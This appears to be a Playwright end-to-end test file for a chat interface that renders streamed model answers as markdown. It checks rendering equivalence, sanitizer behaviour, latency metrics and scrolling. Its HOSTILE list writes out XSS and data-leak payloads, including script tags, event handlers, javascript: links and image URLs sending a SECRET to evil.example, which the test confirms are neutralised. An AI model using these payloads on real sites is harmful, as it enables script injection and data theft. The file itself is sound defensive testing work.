"""Answers as streaming markdown, in real Chromium against the real gateway: what the
DOM holds while and after a long answer streams, that streaming renders exactly what a
whole render does, that hostile model output cannot run, load or navigate anything,
and the per-reply latency metrics."""

from __future__ import annotations

import json
import random
import re
from typing import Iterator
from urllib.parse import urlparse

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from harness.chromium import ANSWER, CONTENT, PIECE, PIXEL_7, Console, scroll_at_rest, send, steer, wait_ready, watched_page
from harness.servers import hold_at, release

pytestmark = pytest.mark.e2e


# Installed before the page's own scripts (an init script is not subject to the CSP):
# records any change to a finished block, which incremental rendering must never make
# (but for highlighting a finished code block, once: its code element's text becomes
# highlighted spans, and says so).
WATCH_FINISHED_BLOCKS = """
window.__blockMutations = [];
new MutationObserver((records) => {
  for (const r of records) {
    const target = r.target.nodeType === 1 ? r.target : r.target.parentElement;
    if (!target || !target.closest('.md') || target.closest('.md-tail')) continue;
    if (target.nodeName === 'CODE' && target.closest('.md-code') && (r.type === 'childList' || r.attributeName === 'data-highlighted')) continue;
    if (target.classList.contains('md')) {
      // The answer's own list of blocks: blocks are only ever added (the tail goes at the end).
      for (const n of r.removedNodes) if (!(n.classList && n.classList.contains('md-tail'))) window.__blockMutations.push('removed ' + n.nodeName);
    } else {
      window.__blockMutations.push(r.type + ' in ' + target.nodeName);
    }
  }
}).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
"""


def model_answer(gateway_url: str, prompt: str, tokens: int) -> str:
    r = httpx.post(gateway_url + "/v1/chat/completions", headers={"x-firsttoken-sim": f"ttft_ms=0,tokens={tokens}"},
                   json={"model": "firsttoken-sim", "messages": [{"role": "user", "content": prompt}]}, timeout=30)
    return r.json()["choices"][0]["message"]["content"]


def at_least(n: int) -> re.Pattern[str]:
    """A pattern for integers >= n (auto-waiting assertions compare attributes as text)."""
    digits = str(n)
    alternatives = [rf"\d{{{len(digits) + 1},}}"]
    for i, d in enumerate(map(int, digits)):
        rest = len(digits) - i - 1
        if rest == 0:
            alternatives.append(f"{digits[:i]}[{d}-9]")
        elif d < 9:
            alternatives.append(f"{digits[:i]}[{d + 1}-9]\\d{{{rest}}}")
    return re.compile(f"^(?:{'|'.join(alternatives)})$")


@pytest.fixture
def mobile_page(browser: Browser, console: Console) -> Iterator[Page]:
    """A phone: Pixel 7 viewport, touch, device scale factor and user agent."""
    yield from watched_page(browser, console, **PIXEL_7)


# ---- a long answer ----------------------------------------------------------------------


def test_long_markdown_answer_streams_into_blocks_that_are_never_redone(mobile_page: Page, gateway_url: str) -> None:
    page = mobile_page
    prompt = "a long answer with code and tables"
    steer(page, "ttft_ms=0,tps=400,tokens=2000,stamp=1", compress="off")
    page.add_init_script(WATCH_FINISHED_BLOCKS)
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, prompt)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=90_000)

    source = model_answer(gateway_url, prompt, 2000)
    content = page.locator(CONTENT)
    # Every block kind the model writes, as elements, as many as in the source.
    assert content.locator(":scope > h2").count() == source.count("\n## ")
    assert content.locator(":scope > .md-code > pre > code.language-python").count() == source.count("```python")
    # Each code block says its language, has its Copy code button, and is highlighted.
    assert content.locator(":scope > .md-code > .md-code-bar .md-code-lang").all_inner_texts() == ["python"] * source.count("```python")
    assert content.get_by_role("button", name="Copy code", exact=True).count() == source.count("```python")
    expect(content.locator("code[data-highlighted='python']")).to_have_count(source.count("```python"))
    tables = content.locator(":scope > table")
    assert tables.count() == source.count("| name | time | note |") > 0
    assert tables.first.locator("thead th").all_inner_texts() == ["name", "time", "note"]
    assert tables.first.locator("tbody tr").count() == 3
    assert tables.first.locator("tbody td").nth(1).get_attribute("align") == "right"
    assert content.locator(":scope > ul > li").count() == source.count("\n- ")
    assert content.locator("p strong").count() + content.locator("p code").count() > 10
    assert content.locator(".md-tail").count() == 0  # nothing left open
    code = content.locator("pre code").first.inner_text()
    assert code.startswith("def ") and "return {" in code
    # No markdown syntax left over as text (the fences, pipes and hashes became elements).
    text = content.inner_text()
    assert "```" not in text and "## " not in text and "|---" not in text

    paints = int(page.get_attribute(ANSWER, "data-paints"))
    assert paints > 20  # painted as it streamed, not at the end
    assert page.evaluate("window.__blockMutations") == []

    # Streaming rendered exactly what rendering the whole answer at once does: after a
    # reload, the answer is rendered from storage in one go (and highlighted again).
    streamed = content.inner_html()
    page.reload(wait_until="domcontentloaded")
    expect(page.locator(CONTENT)).to_have_count(1)
    expect(page.locator(f"{CONTENT} code[data-highlighted='python']")).to_have_count(source.count("```python"))
    assert page.locator(CONTENT).inner_html() == streamed


def test_an_open_code_fence_and_an_open_table_render_before_they_close(page: Page, gateway_url: str) -> None:
    text = ("Intro line.\n\n```python\ndef frame(x):\n    return x + 1\n```\n\n"
            "| name | time |\n|---|---:|\n| paint | 4 ms |\n| layout | 2 ms |\n\nThe end.")
    pieces = PIECE.findall(text)
    in_fence = next(i for i, p in enumerate(pieces) if "return" in p) + 1
    stall, key = hold_at(in_fence)
    steer(page, f"ttft_ms=0,tps=1000,echo=1,{stall}", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, text)
    # Mid-fence (held until released): already a code block, with what arrived, and no stray fence.
    code = page.locator(f"{CONTENT} .md-code pre code.language-python")
    expect(code).to_contain_text("def frame(x):", timeout=30_000)
    expect(page.locator(f"{CONTENT} .md-code-lang")).to_have_text("python")  # the label while it streams
    assert page.get_attribute(ANSWER, "data-state") == "streaming"
    assert "```" not in page.inner_text(CONTENT)
    release(gateway_url, key)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=30_000)
    assert page.locator(f"{CONTENT} pre code").inner_text().rstrip("\n") == "def frame(x):\n    return x + 1"
    assert page.locator(f"{CONTENT} table tbody tr").count() == 2


def test_a_table_renders_row_by_row_while_it_streams(page: Page, gateway_url: str) -> None:
    text = "| name | time |\n|---|---:|\n| paint | 4 ms |\n| layout | 2 ms |\n| style | 1 ms |\n\nAfter."
    pieces = PIECE.findall(text)
    after_first_row = next(i for i, p in enumerate(pieces) if "ms" in p) + 2
    stall, key = hold_at(after_first_row)
    steer(page, f"ttft_ms=0,tps=1000,echo=1,{stall}", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, text)
    rows = page.locator(f"{CONTENT} table tbody tr")
    expect(rows.first).to_contain_text("paint", timeout=30_000)
    assert page.get_attribute(ANSWER, "data-state") == "streaming"
    assert "|" not in page.inner_text(CONTENT)  # never a paragraph of pipes
    release(gateway_url, key)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=30_000)
    assert rows.count() == 3


# ---- incremental = whole, whatever the splits --------------------------------------------

CORPUS = [
    "# Title\n\nSome *em*, **strong**, `code`, ~~del~~, a [link](https://example.com/a?b=1).\n\nLast.",
    "Setext heading\n===\n\nAnd another\n---\n\ntext",
    "- one\n- two\n  - nested\n  - more\n- three\n\n1. first\n2. second\n\n  8. eight\n\ntail para",
    "- loose\n\n- list\n\n  with a second paragraph\n\n- end\n\nafter",
    "```\nno lang\n```\n\n~~~js\nlet a = 1;\n~~~\n\n    indented code\n    block\n\ntext",
    "````md\n```\nnested fence\n```\n````\n\nafter",
    "```python\nnever closed\nline 2\n",
    "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n| 4 | 5 |\n\n| x |\n|---|\n| y |",
    "> quote\n> more\n>\n> - list in quote\n\nout",
    # (Definitions first: a reference to one that has not arrived yet stays text, as it streams.)
    "[1]: https://example.com/one\n[other]: https://example.com/two 'T'\n\nPara with [ref][1] and [other].\n\nend",
    "Line one  \nhard break\\\nand another\n\n***\n\n- [ ] task\n- [x] done",
    # (Raw HTML within one block: HTML spanning blank lines is rendered block by block.)
    "<details><summary>More</summary>Hidden</details>\n\nText <b>bold</b> <kbd>K</kbd> <br> x",
    "Windows\r\nline endings\r\n\r\n- a\r\n- b\r\n",
    "Unclosed **bold and `code and [link](https://exa",
    "1) paren list\n2) second\n\nHeading\n# Not setext\n\n<div>\nhtml block\n</div>\n\nend",
    "Emoji 🎉 and accents é, CJK 文字, RTL שלום\n\n| ü | ß |\n|---|---|\n| 🎉 | 文 |",
    "Math $x^2 + y$ inline, prices $5 and $10, \\$3 escaped, and\n\n$$\\frac{a}{b}$$\n\nafter $open formula",
    "- a `$x$` span and $y$\n\n```sh\necho $HOME\n```\n\n    indented $z$\n\nend $q$.",
]


def test_streaming_renders_what_a_whole_render_does_for_any_split(page: Page, gateway_url: str) -> None:
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    rng = random.Random(7)
    cases = []
    for doc in CORPUS:
        splits = [[doc], list(doc)]  # whole, one character at a time
        for _ in range(3):  # and random cuts
            cuts = sorted(rng.sample(range(1, len(doc)), min(len(doc) - 1, rng.randrange(2, 12))))
            splits.append([doc[a:b] for a, b in zip([0, *cuts], [*cuts, len(doc)])])
        cases.append({"doc": doc, "splits": splits})
    results = page.evaluate(
        """async (cases) => {
          const { MarkdownStream, renderMarkdown } = await import('/js/render/markdown-stream.js');
          const out = [];
          for (const { doc, splits } of cases) {
            const whole = document.createElement('div');
            renderMarkdown(whole, doc);
            const streamed = splits.map((pieces) => {
              const el = document.createElement('div');
              const s = new MarkdownStream(el);
              for (const p of pieces) s.append(p);
              s.end();
              return el.innerHTML;
            });
            out.push({ whole: whole.innerHTML, streamed });
          }
          return out;
        }""",
        cases,
    )
    for doc, result in zip(CORPUS, results):
        assert result["whole"], doc
        for i, html in enumerate(result["streamed"]):
            assert html == result["whole"], f"split {i} of {doc!r}"


# Prose that probes the shortcut for plain words (MarkdownStream.grows): words that would
# change how the text before them parses, if they were simply appended.
GROWING = [
    "See www" + ".example" + ".com for more, and mail foo@bar" + ".com today.",
    "Go to http://example" + ".com now. Then https " + "is plain.",
    "A line\n1" + ". item that interrupts\n\nNext para " + "ends here  \nbreak",
    "Title words " + "\n===\n\nMore text " + "\n---\n\n- item one " + "grows\n- item two\n\n## Head " + "ing words #",
    "Trailing space " + "then words and *em* after, **strong** then words, `code` then words.",
    "Quotes \"said\" and 'so' and ?! marks, numbers 12 34. Words_with_underscores and AT&T " + "amp; too.",
    "> quoted words " + "grow\n> more quoted\n\n| a | b |\n|---|---|\n| cell " + "grows | x |\n\nafter",
    "Unicode é words " + "文字 grow, then <b>bold</b> and a [link](https://example.com/x) " + "after it.",
]


def test_plain_words_appended_directly_give_the_dom_a_full_render_gives(page: Page, gateway_url: str) -> None:
    """After every chunk, the stream's DOM equals that of the same stream with the
    plain-words shortcut switched off, for model-like word pieces and other splits."""
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    docs = GROWING + CORPUS + [model_answer(gateway_url, "Explain frame pacing with code and a table", 600)]
    rng = random.Random(11)
    cases = []
    for doc in docs:
        splits = [PIECE.findall(doc), list(doc)]
        cuts = sorted(rng.sample(range(1, len(doc)), min(len(doc) - 1, 40)))
        splits.append([doc[a:b] for a, b in zip([0, *cuts], [*cuts, len(doc)])])
        cases.append(splits)
    results = page.evaluate(
        """async (cases) => {
          const { MarkdownStream } = await import('/js/render/markdown-stream.js');
          const out = [];
          let grown = 0;
          for (const splits of cases) {
            for (const pieces of splits) {
              const a = new MarkdownStream(document.createElement('div'));
              const b = new MarkdownStream(document.createElement('div'));
              b.grows = () => false; // always a full render of the open block
              let bad = null;
              for (const [i, p] of pieces.entries()) {
                if (a.grows(a.normalize.call({ cr: a.cr }, p))) grown += 1;
                a.append(p);
                b.append(p);
                if (a.container.innerHTML !== b.container.innerHTML) {
                  bad = { at: i, text: pieces.slice(0, i + 1).join(''), fast: a.container.innerHTML, full: b.container.innerHTML };
                  break;
                }
              }
              a.end();
              b.end();
              if (!bad && a.container.innerHTML !== b.container.innerHTML) bad = { at: 'end', fast: a.container.innerHTML, full: b.container.innerHTML };
              out.push(bad);
            }
          }
          return { out, grown };
        }""",
        cases,
    )
    assert results["grown"] > 500, results["grown"]  # the shortcut is taken, for most prose words
    for bad in results["out"]:
        assert bad is None, bad


# ---- hostile output -----------------------------------------------------------------------

HOSTILE = [
    '<script>window.__pwned = "script"</script>',
    '<img src=x onerror="window.__pwned = \'img\'">',
    '<svg onload="window.__pwned = \'svg\'"><circle r=1 /></svg>',
    '<svg><script>window.__pwned = "svg script"</script></svg>',
    '<math><mi xlink:href="javascript:window.__pwned=1">m</mi></math>',
    '<iframe src="https://evil.example/frame" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">',
    '[click](javascript:window.__pwned=1) [c2](JaVaScRiPt:alert(1)) [c3]( javascript:alert(1))',
    '<a href="jav&#x09;ascript:alert(1)">tab</a> <a href="vbscript:x">vb</a> <a href="data:text/html,<script>alert(1)</script>">data</a>',
    '[ref][evil]\n\n[evil]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![leak](https://evil.example/leak.png?q=SECRET) ![rel](/v1/models?leak=1) ![proto](//evil.example/p.png)',
    '<img srcset="https://evil.example/a.png 1x" alt="srcset"> <picture><source srcset="https://evil.example/b.png"></picture>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
    '<input type="image" src="https://evil.example/i.png"> <input type="text" value="phish">',
    '<div style="background:url(https://evil.example/bg.png)">styled</div><style>@import url(https://evil.example/s.css);</style>',
    '<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<form action="https://evil.example/f"><button formaction="https://evil.example/b">go</button></form>',
    '<details open ontoggle="window.__pwned=\'toggle\'"><summary>s</summary>x</details>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
    '<a id="messages" name="prompt" href="https://example.com/ok" class="msg" ping="https://evil.example/ping">clobber</a>',
    '<p>unclosed <img src="https://evil.example/partial.png',
    '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![svg](data:image/svg+xml;base64,PHN2Zy8+)',
    '![ok](data:image/png;base64,iVBORw0KGgo=) [fine](https://example.com/docs "a title")',
    '<b onmouseover="window.__pwned=1">bold?</b> <b>bare bold</b> <br> <sup>2</sup>',
]


def test_hostile_markdown_runs_nothing_loads_nothing_and_cannot_navigate(page: Page, gateway_url: str) -> None:
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    steer(page, "ttft_ms=0,tps=2000,echo=1", compress="off")
    page.goto(gateway_url + "/")
    wait_ready(page)
    origin = urlparse(gateway_url).netloc
    before = len(requests)
    text = "\n\n".join(HOSTILE) + "\n\nThe end."
    send(page, text)
    page.wait_for_selector(f'{ANSWER}[data-state="done"]', timeout=60_000)
    expect(page.locator(CONTENT)).to_contain_text("The end.")

    assert page.evaluate("window.__pwned") is None
    content = page.locator(CONTENT)
    for tag in ["script", "svg", "math", "iframe", "object", "embed", "video", "audio", "source", "picture",
                "style", "link", "meta", "base", "form", "button", "noscript"]:
        assert content.locator(tag).count() == 0, tag
    attributes = page.evaluate(
        """(sel) => [...document.querySelector(sel).querySelectorAll('*')].flatMap(
             (el) => [...el.attributes].map((a) => [el.nodeName, a.name, a.value]))""",
        CONTENT,
    )
    for node, name, value in attributes:
        assert not name.startswith("on"), (node, name)
        assert name not in ("style", "id", "name", "srcset", "ping", "formaction", "poster", "xlink:href"), (node, name)
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:")), value
        if name == "src":
            assert value.startswith("data:image/"), value
        if name == "class":
            assert node == "CODE" or value == "md-img-blocked", (node, value)
    for link in content.locator("a[href]").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in link.get_attribute("rel") and "noreferrer" in link.get_attribute("rel")
    # The blocked images still say what they were; an inline data: image is shown.
    assert content.locator("img.md-img-blocked[alt='[image: leak]']").count() == 1
    assert content.locator("img[src^='data:image/png']").count() == 1
    # Raw HTML with attributes is shown as text, never parsed; bare formatting tags work.
    text = content.inner_text()
    assert "<script>" in text and "<iframe" in text and 'onmouseover="' in text
    assert content.locator("b", has_text="bare bold").count() == 1 and content.locator("sup").count() == 1
    # The page's own elements were not clobbered.
    assert page.evaluate("document.getElementById('messages').nodeName") == "OL"
    # Links that survived a click do not take the page anywhere; those that lost their href do nothing.
    url = page.url
    for name in ("click", "c2", "c3", "d"):
        link = content.locator("a", has_text=re.compile(f"^{name}$"))
        assert link.get_attribute("href") is None
        link.click()
    assert page.url == url
    # Nothing left the page: only this origin was asked for anything, and nothing the model named.
    after = requests[before:]
    assert any(u.endswith("/v1/chat/completions") for u in after)
    assert all(urlparse(u).netloc == origin for u in after if urlparse(u).scheme in ("http", "https")), after
    assert not [u for u in after if "evil" in u or "leak" in u or "/v1/models" in u], after


# Markup that looks like the forms the fast path lets through, but is not quite them.
NEAR_MISSES = [
    '<ol start="3" reversed>',
    '<code class="language-py onclick">',
    '<td align="left" onclick="x">',
    '<span class="md-math other">',
    '<p >x</p>',
    '<b\nonclick=x>',
    '<br/>',
    '<!-- c -->',
    '<p>a < b</p>',
]


def test_markup_that_dompurify_would_keep_as_parsed_skips_it_and_comes_out_the_same(page: Page, gateway_url: str) -> None:
    """safeFragment skips DOMPurify's walk when every tag is one it would keep unchanged
    (js/render/sanitize.js). For every block of every corpus, hostile ones included, the
    fast path's DOM must equal DOMPurify's (so wherever DOMPurify would change anything,
    the fast path is not taken); near misses must take DOMPurify; and the fast path must
    be taken for most blocks (or this proves nothing)."""
    page.goto(gateway_url + "/", wait_until="domcontentloaded")
    docs = CORPUS + GROWING + HOSTILE + [
        "1. one\n2. two\n\n5. five\n6. six",
        "| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
        "```c++\nint x = 1 < 2 && 3 > 2;\n```\n\n```\nplain\n```",
        "Entities &copy; &amp; &#60;tag&#62; &lt;b&gt; stay text: <b>bold</b> <sup>2</sup>",
        "$$x^2$$ and $y$ and <details><summary>s</summary>d</details>",
    ]
    result = page.evaluate(
        """async ([docs, misses]) => {
          const { Parser } = await import('/vendor/marked/marked.esm.js');
          const { MarkdownStream } = await import('/js/render/markdown-stream.js');
          const { keptAsParsed, purifiedFragment, safeFragment } = await import('/js/render/sanitize.js');
          const serialize = (fragment) => { const d = document.createElement('div'); d.append(fragment); return d.innerHTML; };
          const out = { fast: 0, total: 0, differ: [], missFast: misses.filter((m) => keptAsParsed(m)) };
          for (const doc of docs) {
            const stream = new MarkdownStream(document.createElement('div'));
            const tokens = stream.lex(doc);
            for (const token of tokens.filter((t) => t.type !== 'space')) {
              const one = [token];
              one.links = tokens.links;
              const html = Parser.parse(one, stream.options);
              out.total += 1;
              if (keptAsParsed(html)) out.fast += 1;
              const fast = serialize(safeFragment(html));
              const slow = serialize(purifiedFragment(html));
              if (fast !== slow) out.differ.push([html, fast, slow]);
            }
          }
          return out;
        }""",
        [docs, NEAR_MISSES],
    )
    assert result["differ"] == []
    assert result["missFast"] == []
    assert result["fast"] * 2 > result["total"], result


# ---- metrics --------------------------------------------------------------------------------


def test_each_reply_reports_where_its_time_went(page: Page, gateway_url: str) -> None:
    steer(page, "ttft_ms=100,tps=200,tokens=120,stamp=1")
    page.goto(gateway_url + "/")
    wait_ready(page)
    page.fill("#prompt", "measure me")
    metrics = page.evaluate(
        """() => new Promise((resolve) => {
          addEventListener('firsttoken:metrics', (e) => resolve(e.detail), { once: true });
          document.getElementById('send').click();
        })"""
    )
    assert metrics["chunk_clock"] == "server"  # the gateway's stamps came through the protocol
    assert metrics["chunks"] >= 120
    order = [metrics[k] for k in ("send_to_request_ms", "send_to_first_byte_ms", "send_to_first_delta_ms", "send_to_first_paint_ms")]
    assert all(v is not None and v >= 0 for v in order) and order == sorted(order), order
    assert metrics["send_to_first_byte_ms"] - metrics["send_to_request_ms"] >= 90  # the model's ttft
    assert 0 <= metrics["first_byte_to_first_paint_ms"] < 5_000
    c2p = metrics["chunk_to_paint_ms"]
    assert 0 < c2p["p50"] <= c2p["p95"] <= c2p["max"] < 10_000
    # The model paces 200 tok/s; what the page reports is what reached it, which a loaded
    # machine slows (94 tok/s in a full run beside other jobs): the bounds catch a wrong
    # unit or span, not the machine's speed.
    assert 10 < metrics["tokens_per_s"] < 400
    assert metrics["completion_tokens"] == 120
    # In the page, under the answer, and kept on its element.
    line = page.locator(f"{ANSWER} .reply-metrics")
    expect(line).to_contain_text("chunk→paint p50")
    expect(line).to_contain_text("tok/s")
    assert json.loads(page.get_attribute(ANSWER, "data-metrics"))["id"] == metrics["id"]


# Records the markdown warm-up's sample as it is put into the document and taken out.
WATCH_WARM_UP = """
window.__warm = [];
new MutationObserver((records) => {
  for (const r of records) {
    for (const n of r.addedNodes) if (n.querySelector?.('.md-code')) window.__warm.push({
      added: true, hidden: n.style.visibility === 'hidden' && n.getAttribute('aria-hidden') === 'true' && n.inert,
      text: n.textContent.slice(0, 7) });
    for (const n of r.removedNodes) if (n.querySelector?.('.md-code')) window.__warm.push({ removed: true });
  }
}).observe(document, { subtree: true, childList: true });
"""


def test_the_markdown_warm_up_is_laid_out_hidden_once_and_leaves_nothing(page: Page, gateway_url: str) -> None:
    """Before any message, the warm-up sample (every block kind, a code block among them)
    is laid out once, hidden, so that the first message with code does not pay for the
    code font's first layout in the frame that shows it; it leaves nothing behind and
    loads no highlighting."""
    page.add_init_script(WATCH_WARM_UP)
    page.goto(gateway_url + "/")
    wait_ready(page)
    page.wait_for_function("() => window.__warm.some((r) => r.removed)")
    warm = page.evaluate("() => window.__warm")
    assert warm == [{"added": True, "hidden": True, "text": "Warm up"}, {"removed": True}], warm
    assert page.locator(".md-code").count() == 0
    assert page.get_by_text("Warm up").count() == 0
    loaded = page.evaluate("() => performance.getEntriesByType('resource').map((e) => e.name)")
    # (highlighter.js is in the page's module graph; highlight.js itself and its worker
    # come with the first block to highlight.)
    assert not [u for u in loaded if "vendor/highlight.js/" in u or "highlight-worker" in u], loaded


def test_the_view_follows_the_answer_until_the_user_scrolls_up(mobile_page: Page, gateway_url: str) -> None:
    page = mobile_page
    steer(page, "ttft_ms=0,tps=60,tokens=4000")
    page.goto(gateway_url + "/")
    wait_ready(page)
    send(page, "follow me")
    answer = page.locator(ANSWER)
    expect(answer).to_have_attribute("data-paints", at_least(300), timeout=60_000)
    chat = page.locator("#chat")
    assert chat.evaluate("(el) => el.scrollHeight > 2 * el.clientHeight")  # long enough to scroll
    assert chat.evaluate("(el) => el.scrollHeight - el.scrollTop - el.clientHeight") < 48  # following
    # The user scrolls up, with a wheel over the conversation (a scroll counts as the
    # user's only right after their input: js/page/follow.js).
    box = chat.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.mouse.wheel(0, -400)
    expect(page.get_by_role("button", name="Jump to latest")).to_be_visible()
    top = scroll_at_rest(page)
    height = chat.evaluate("(el) => el.scrollHeight")
    paints = int(answer.get_attribute("data-paints"))
    expect(answer).to_have_attribute("data-paints", at_least(paints + 60), timeout=30_000)
    assert chat.evaluate("(el) => el.scrollHeight") > height  # it kept growing…
    assert abs(chat.evaluate("(el) => el.scrollTop") - top) < 2  # …and the view stayed put
    page.click("#stop")
